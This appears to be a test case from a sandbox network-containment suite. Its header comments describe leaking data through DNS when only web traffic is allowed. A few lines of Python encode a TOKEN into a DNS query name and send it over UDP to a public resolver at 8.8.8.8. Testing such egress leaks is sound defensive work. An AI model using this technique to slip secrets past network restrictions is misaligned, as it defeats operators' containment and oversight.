# title: sends data out by DNS although only a web server is allowed
# harm: reaches
# egress: public.example:80
# B: no network at all
# C: an empty network namespace; the proxy looks names up itself
name = b''.join(bytes([len(p)]) + p for p in (TOKEN.encode(), b'example')) + b'\0'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b'\x12\x34\x01\0\0\1\0\0\0\0\0\0' + name + b'\0\1\0\1', ('8.8.8.8', 53)); time.sleep(0.2)
